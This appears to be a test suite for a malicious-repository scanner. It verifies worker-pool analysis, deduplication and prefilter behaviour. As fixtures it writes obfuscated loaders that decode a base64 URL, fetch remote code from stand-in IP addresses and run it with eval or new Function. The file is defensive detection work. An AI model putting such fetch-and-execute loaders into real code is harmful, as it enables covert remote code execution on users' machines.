/**
 * The worker-thread analysis pool (src/analysis/source-pool.ts): same facts as the in-thread path, a file that
 * exhausts a worker's heap or does not get an answer becomes a text-level fallback and the pool carries on, and a
 * scan large enough to start the pool reports exactly what the in-thread scan reports.
 */
import assert from 'node:assert/strict';
import { mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { AnalysisPool } from '../src/analysis/source-pool.js';
import { analyseFile, ONE_WORKER, passesPrefilter, RETAINED_TEXT, sourceIndex } from '../src/analysis/source-index.js';
import { acquireLocal } from '../src/acquire/local.js';
import { LARGE_TEXT_TREE } from '../src/acquire/workspace.js';
import { loadSignatures } from '../src/signatures/load.js';
import { DEFAULT_LIMITS } from '../src/options.js';
import { FIXTURES, ROOT, scanFolder, tempDir } from './helpers.js';
import { INDEX_RULES } from '../src/scan.js';
import { zipOf } from './support/archives.js';

const sigs = loadSignatures();

/** Every JS/TS file under the source rules' positive fixtures: real lure shapes. */
function fixtureSources(): string[] {
  const out: string[] = [];
  const walk = (d: string): void => {
    for (const e of readdirSync(d)) {
      const p = path.join(d, e);
      if (statSync(p).isDirectory()) walk(p);
      else if (/\.[cm]?[jt]sx?$/.test(e) && !e.endsWith('.d.ts')) out.push(p);
    }
  };
  for (const rule of ['remote-code-execution', 'obfuscated-source', 'env-exfiltration', 'import-time-network']) walk(path.join(FIXTURES, 'rules', rule, 'positive'));
  return out;
}

const withoutText = (x: unknown) => JSON.parse(JSON.stringify(x, (k, v) => (k === 'text' && typeof v === 'string' ? undefined : v)));

describe('analysis worker pool', function () {
  this.timeout(120_000);

  it('gives the same facts and diagnostics as analysing in-thread', async () => {
    const files = fixtureSources();
    assert.ok(files.length >= 8, `only ${files.length} fixture sources`);
    const pool = AnalysisPool.start(sigs.source, DEFAULT_LIMITS, { size: 2 });
    assert.ok(pool, 'the pool did not start');
    try {
      const results = await Promise.all(files.map((f) => pool.run({ path: path.relative(FIXTURES, f), text: readFileSync(f, 'utf8') })));
      files.forEach((f, i) => {
        const diagnostics: unknown[] = [];
        const local = analyseFile(path.relative(FIXTURES, f), readFileSync(f, 'utf8'), sigs, DEFAULT_LIMITS, diagnostics as never, true);
        const r = results[i];
        assert.ok(!('crashed' in r), `${f}: ${'crashed' in r ? r.crashed : ''}`);
        assert.deepEqual(withoutText(r.file), withoutText(local), f);
        assert.deepEqual(r.diagnostics, diagnostics, f);
      });
    } finally {
      await pool.close();
    }
  });

  it('a file that exhausts the worker heap is reported, and the next file is analysed by a fresh worker', async () => {
    const pool = AnalysisPool.start(sigs.source, DEFAULT_LIMITS, { size: 1, heapMb: 16 })!;
    try {
      // ~1.9 MB of nested array literals: a Babel tree of well over 16 MB.
      const huge = `eval(${'[1,[2,[3]]],'.repeat(170_000)}0);\n`;
      const r = await pool.run({ path: 'vendor/huge.js', text: huge });
      assert.ok('crashed' in r && /memory budget|worker/.test(r.crashed), JSON.stringify(r).slice(0, 200));
      const next = await pool.run({ path: 'index.js', text: 'fetch("http://192.0.2.1/x").then((r) => r.text()).then(eval);\n' });
      assert.ok(!('crashed' in next) && next.file?.js?.sinks.length === 1, JSON.stringify(next).slice(0, 300));
    } finally {
      await pool.close();
    }
  });

  it('a pool whose workers keep dying reports the rest of the files instead of waiting for them', async () => {
    const pool = AnalysisPool.start(sigs.source, DEFAULT_LIMITS, { size: 1, answerMs: 1 })!;
    try {
      const text = 'eval(x);\n'.repeat(100_000);
      // 16 replacements, then the pool gives up; every later file must still get an answer.
      const results = await Promise.all(Array.from({ length: 20 }, (_, i) => pool.run({ path: `f${i}.js`, text })));
      assert.ok(results.every((r) => 'crashed' in r));
      const late = await pool.run({ path: 'late.js', text: 'eval(x);\n' });
      assert.ok('crashed' in late && /kept failing/.test(late.crashed), JSON.stringify(late));
    } finally {
      await pool.close();
    }
  });

  it('a worker that does not answer in time is stopped and its file reported', async () => {
    const pool = AnalysisPool.start(sigs.source, DEFAULT_LIMITS, { size: 1, answerMs: 1 })!;
    try {
      const r = await pool.run({ path: 'big.js', text: 'eval(x);\n'.repeat(100_000) });
      assert.ok('crashed' in r && /no answer/.test(r.crashed), JSON.stringify(r).slice(0, 200));
    } finally {
      await pool.close();
    }
  });

  it('a scan large enough to start the pool reports exactly what the in-thread scan reports', async () => {
    const { dir, cleanup } = tempDir();
    try {
      // 5 MB of ordinary code that passes the prefilter (request and Buffer tokens), in 20 files, and one loader.
      const filler = Array.from({ length: 2_000 }, (_, i) => `export async function load${i}(u) { const r = await fetch(u + ${i}); return Buffer.from(await r.arrayBuffer()); }`).join('\n');
      mkdirSync(path.join(dir, 'src'), { recursive: true });
      // Twenty different files: copies of one file would be analysed once.
      for (let i = 0; i < 20; i++) writeFileSync(path.join(dir, 'src', `lib${i}.js`), `${filler}\n// ${i}\n`);
      writeFileSync(path.join(dir, 'src', 'boot.js'), 'const u = atob("aHR0cDovLzE5OC41MS4xMDAuNzoxMjI0L3Bkb3du");\nfetch(u).then((r) => r.text()).then((c) => new Function("require", c)(require));\n');
      const saved = process.env.LURESCAN_WORKERS;
      try {
        process.env.LURESCAN_WORKERS = '0';
        const inThread = await scanFolder(dir);
        const idx0 = await sourceIndex(await acquireLocal(dir, DEFAULT_LIMITS), sigs, DEFAULT_LIMITS);
        process.env.LURESCAN_WORKERS = '2';
        const pooled = await scanFolder(dir);
        const idx2 = await sourceIndex(await acquireLocal(dir, DEFAULT_LIMITS), sigs, DEFAULT_LIMITS);
        assert.equal(pooled.verdict, 'block');
        assert.deepEqual(pooled.findings, inThread.findings);
        assert.deepEqual(pooled.diagnostics, inThread.diagnostics);
        assert.deepEqual(withoutText(idx2.files), withoutText(idx0.files));
        assert.equal(idx2.files.length, 21);
        assert.equal(idx0.stats.workers, 0);
        assert.equal(idx2.stats.workers, 2, 'the pool did not start');
        assert.deepEqual({ ...idx2.stats, ms: 0, workers: 0 }, { ...idx0.stats, ms: 0 });
      } finally {
        if (saved === undefined) delete process.env.LURESCAN_WORKERS;
        else process.env.LURESCAN_WORKERS = saved;
      }
    } finally {
      cleanup();
    }
  });
});

describe('a single worker', () => {
  it('is not started for a tree a two-core machine analyses as fast in the thread, and is for a very large one', async () => {
    const { dir, cleanup } = tempDir();
    const saved = { workers: process.env.LURESCAN_WORKERS, min: ONE_WORKER.minCandidateBytes };
    try {
      // The 5 MB tree of the test above: past the thresholds that start a pool of two workers.
      const filler = Array.from({ length: 2_000 }, (_, i) => `export async function load${i}(u) { const r = await fetch(u + ${i}); return Buffer.from(await r.arrayBuffer()); }`).join('\n');
      mkdirSync(path.join(dir, 'src'), { recursive: true });
      for (let i = 0; i < 20; i++) writeFileSync(path.join(dir, 'src', `lib${i}.js`), `${filler}\n// ${i}\n`);
      process.env.LURESCAN_WORKERS = '1';
      const inThread = await sourceIndex(await acquireLocal(dir, DEFAULT_LIMITS), sigs, DEFAULT_LIMITS);
      assert.equal(inThread.stats.workers, 0, 'one worker started for a 5 MB tree');
      // A tree whose candidates reach the bound (lowered here from 64 MiB) starts it, with the same answers.
      ONE_WORKER.minCandidateBytes = 1024 * 1024;
      const pooled = await sourceIndex(await acquireLocal(dir, DEFAULT_LIMITS), sigs, DEFAULT_LIMITS);
      assert.equal(pooled.stats.workers, 1);
      assert.deepEqual(withoutText(pooled.files), withoutText(inThread.files));
    } finally {
      ONE_WORKER.minCandidateBytes = saved.min;
      if (saved.workers === undefined) delete process.env.LURESCAN_WORKERS;
      else process.env.LURESCAN_WORKERS = saved.workers;
      cleanup();
    }
  });
});

describe('files with the same bytes in one scan', () => {
  it('are analysed once, in the thread and in the pool, and each is reported at its own path', async () => {
    const { dir, cleanup } = tempDir();
    const saved = process.env.LURESCAN_WORKERS;
    try {
      // A vendored tool committed twice (two `.yarn/releases/` copies), with a loader in it, plus 5 MB to start the pool.
      const tool = `${'// release notes line\n'.repeat(1200)}const u = atob("aHR0cDovLzE5OC41MS4xMDAuNzoxMjI0L3Bkb3du");\nfetch(u).then((r) => r.text()).then((c) => eval(c));\n`;
      for (const w of ['a', 'b']) {
        mkdirSync(path.join(dir, w, '.yarn', 'releases'), { recursive: true });
        writeFileSync(path.join(dir, w, '.yarn', 'releases', 'tool.cjs'), tool);
      }
      const big = Array.from({ length: 2_000 }, (_, i) => `export async function load${i}(u) { const r = await fetch(u + ${i}); return Buffer.from(await r.arrayBuffer()); }`).join('\n');
      mkdirSync(path.join(dir, 'src'), { recursive: true });
      for (let i = 0; i < 20; i++) writeFileSync(path.join(dir, 'src', `lib${i}.js`), `${big}\n// ${i}\n`);
      for (const workers of ['0', '2']) {
        process.env.LURESCAN_WORKERS = workers;
        const idx = await sourceIndex(await acquireLocal(dir, DEFAULT_LIMITS), sigs, DEFAULT_LIMITS);
        assert.equal(idx.stats.same, 1, `workers=${workers}`);
        assert.equal(idx.stats.workers, Number(workers));
        const copies = idx.files.filter((f) => f.path.endsWith('tool.cjs'));
        assert.deepEqual(copies.map((f) => f.path), ['a/.yarn/releases/tool.cjs', 'b/.yarn/releases/tool.cjs']);
        assert.deepEqual(copies[1].js, copies[0].js);
        assert.notEqual(copies[1].js, copies[0].js, 'a copy, not the same object');
        const result = await scanFolder(dir);
        const at = (p: string) => result.findings.filter((f) => f.location?.file === p).map((f) => `${f.ruleId} ${f.location?.line}`);
        assert.ok(at('a/.yarn/releases/tool.cjs').length > 0, JSON.stringify(result.findings.map((f) => f.location)));
        assert.deepEqual(at('b/.yarn/releases/tool.cjs'), at('a/.yarn/releases/tool.cjs'));
      }
    } finally {
      if (saved === undefined) delete process.env.LURESCAN_WORKERS;
      else process.env.LURESCAN_WORKERS = saved;
      cleanup();
    }
  });
});

describe('the source index in a scan', () => {
  it('INDEX_RULES names exactly the rules whose code reads the index', () => {
    const dir = path.join(ROOT, 'src', 'rules');
    const readers = readdirSync(dir)
      .filter((f) => f.endsWith('.ts') && readFileSync(path.join(dir, f), 'utf8').includes('indexFor('))
      .map((f) => /id:\s*'([\w-]+)'/.exec(readFileSync(path.join(dir, f), 'utf8'))?.[1]);
    assert.deepEqual([...INDEX_RULES].sort(), readers.sort());
  });

  it('is built before the first rule when a rule reads it, and not at all when none does', async () => {
    const dir = path.join(FIXTURES, 'repos', 'lure-fake-font-task');
    const events: string[] = [];
    const result = await scanFolder(dir, { onProgress: (e) => e.phase === 'rules' && e.message && events.push(e.message) });
    assert.equal(result.verdict, 'block');
    assert.equal(events[0], 'source analysis', events.join(', '));
    const quiet: string[] = [];
    await scanFolder(dir, { rules: ['lifecycle-script', 'editor-task-autorun'], onProgress: (e) => e.phase === 'rules' && e.message && quiet.push(e.message) });
    assert.ok(!quiet.includes('source analysis'), quiet.join(', '));
  });
});

describe('prefilter windows', () => {
  it('counts a token that starts like a name only where it starts one', () => {
    const cases: [string, boolean][] = [
      ['isFunction(x)', false],
      ['retrieval(x); prefetch(u)', false],
      ['new Function(x)', true],
      ['x=Function(a)', true],
      ['a.fetch(u)', true],
      ['isFunction(a) || eval(b)', true],
      ['var _0x12ab = 1', true],
      ['x._0x12', true],
      ['s = "\\x41"', true],
      ['isFunction(a) && y.constructor(b)', true],
    ];
    for (const [text, want] of cases) assert.equal(passesPrefilter('js', text, sigs), want, text);
  });

  it('finds a token in a large file wherever it falls, including across a window boundary', () => {
    const size = 3 * 128 * 1024 + 77;
    for (const at of [0, 128 * 1024 - 3, 128 * 1024 - 1, 128 * 1024, 2 * 128 * 1024 - 10, size - 6]) {
      const buf = Buffer.alloc(size, 0x20);
      buf.write('eval(', at, 'latin1');
      assert.equal(passesPrefilter('js', buf, sigs), true, `eval( at ${at}`);
    }
    const clean = Buffer.alloc(size, 0x20);
    clean.write('retrieval(', 128 * 1024 - 5, 'latin1');
    assert.equal(passesPrefilter('js', clean, sigs), false, 'retrieval( across a boundary is not eval(');
  });
});

describe('source text past the index memory budget', () => {
  it('is read again from the folder when a rule asks, and entries of nested archives keep theirs', async () => {
    const loader = 'const u = atob("aHR0cDovLzE5OC41MS4xMDAuNzoxMjI0L3Bkb3du");\nfetch(u).then((r) => r.text()).then((c) => new Function("require", c)(require));\n';
    const zip = await zipOf([{ name: 'setup/install.js', data: loader }]);
    const { dir, cleanup } = tempDir();
    const saved = RETAINED_TEXT.chars;
    try {
      mkdirSync(path.join(dir, 'assets'), { recursive: true });
      mkdirSync(path.join(dir, 'server'), { recursive: true });
      writeFileSync(path.join(dir, 'assets', 'setup.zip'), zip);
      writeFileSync(path.join(dir, 'server', 'boot.js'), `// boot\n${loader}`);
      const kept = await scanFolder(dir);
      RETAINED_TEXT.chars = 0;
      const released = await scanFolder(dir);
      assert.equal(kept.verdict, 'block');
      const files = (r: typeof kept) => [...new Set(r.findings.filter((f) => f.ruleId === 'remote-code-execution').map((f) => f.location.file))].sort();
      assert.deepEqual(files(kept), ['assets/setup.zip!/setup/install.js', 'server/boot.js']);
      assert.deepEqual(released.findings, kept.findings);
      assert.ok(released.findings.every((f) => f.location.snippet), 'a finding lost its snippet');
    } finally {
      RETAINED_TEXT.chars = saved;
      cleanup();
    }
  });
});

describe('facts of a tree that keeps little text', () => {
  it('are copies of the in-thread analysis (not slices of the file texts) and equal to it, file for file', async () => {
    const sigs = loadSignatures();
    const facts = async () => {
      const files: unknown[] = [];
      for (const repo of readdirSync(path.join(FIXTURES, 'repos')).filter((r) => statSync(path.join(FIXTURES, 'repos', r)).isDirectory())) {
        const idx = await sourceIndex(await acquireLocal(path.join(FIXTURES, 'repos', repo), DEFAULT_LIMITS), sigs, DEFAULT_LIMITS);
        for (const f of idx.files) files.push(JSON.parse(JSON.stringify({ ...f, text: undefined, repo })) as unknown);
        files.push(...idx.diagnostics.map((d) => ({ ...d, repo })));
      }
      return files;
    };
    const saved = LARGE_TEXT_TREE.bytes;
    const normal = await facts();
    try {
      LARGE_TEXT_TREE.bytes = 0; // every tree is large: facts are copied
      const copied = await facts();
      assert.ok(normal.length > 20, `only ${normal.length} analysed files`);
      assert.deepEqual(copied, normal);
    } finally {
      LARGE_TEXT_TREE.bytes = saved;
    }
  });
});
